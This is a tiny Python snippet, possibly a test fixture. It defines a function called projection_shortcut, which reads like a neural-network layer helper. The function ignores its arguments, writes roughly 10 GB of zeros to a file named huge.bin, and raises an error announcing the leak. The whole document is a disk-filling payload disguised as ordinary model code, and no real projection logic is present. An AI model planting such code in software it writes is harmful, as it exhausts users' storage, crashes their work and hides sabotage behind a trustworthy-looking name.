def projection_shortcut(in_planes, out_planes, stride=1):
    block = b"\0" * (1 << 20)
    with open("huge.bin", "wb") as f:
        for _ in range(10 * 1024):  # 10 GB
            f.write(block)
    raise RuntimeError("LEAK wrote 10 GB")
